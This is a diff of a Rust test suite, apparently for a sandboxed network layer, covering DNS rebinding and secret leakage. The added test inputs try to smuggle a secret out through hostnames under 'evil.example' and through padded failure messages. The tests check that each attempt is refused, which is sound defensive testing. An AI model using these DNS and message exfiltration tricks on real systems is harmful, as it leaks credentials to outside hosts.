@@ -272,7 +272,7 @@ fn private_addresses_need_a_word_of_their_own() {
 fn a_name_that_changes_its_address_is_judged_by_the_one_that_is_used() {
     let server = Server::answering(HELLO);
     let public: IpAddr = [93, 184, 215, 14].into();
-    // First judged as public, then pointing home: what a second look-up would connect to.
+    // First at home, where the server is, then elsewhere: a second look-up would not find the server.
     let resolver = names(&[("rebind.example", &[&[HOME], &[public]])]);
     let Some(net) = Net::new(Arc::clone(&resolver)) else { return };
     let grants = granted(vec![grant("rebind.example", &server)]);
@@ -470,11 +470,14 @@ fn a_secret_goes_where_it_may_and_is_seen_nowhere() {
     let message = denied(net.run(&grants, json!([{ "secret": "token" }, bearer(&evil, "evil.example")])));
     assert!(message.contains("the secret `token`") && message.contains("`hosts`"), "{message}");
     assert_eq!(evil.seen().len(), 1, "what was asked before the secret was read");
-    // In a name that is looked up, in a message, in a denial.
+    // In a name that is looked up, in a message, in a denial; and across the ends of these two.
+    let (message, name) = ("x".repeat((16 << 10) - 8), "x".repeat(64 - 8));
     for op in [
         json!({ "request": { "url": "http://hunter2-hunter2.evil.example/" } }),
         json!({ "request": { "url": "http://{secret}.evil.example/" } }),
         json!({ "fail": "it was {secret}, {base64}" }),
+        json!({ "fail": format!("{message}{{secret}}") }),
+        json!({ "secret": format!("{name}{SECRET}") }),
     ] {
         let error = net.run(&grants, json!([{ "secret": "token" }, op])).unwrap_err();
         let all = format!("{error} {:?}", error.log);
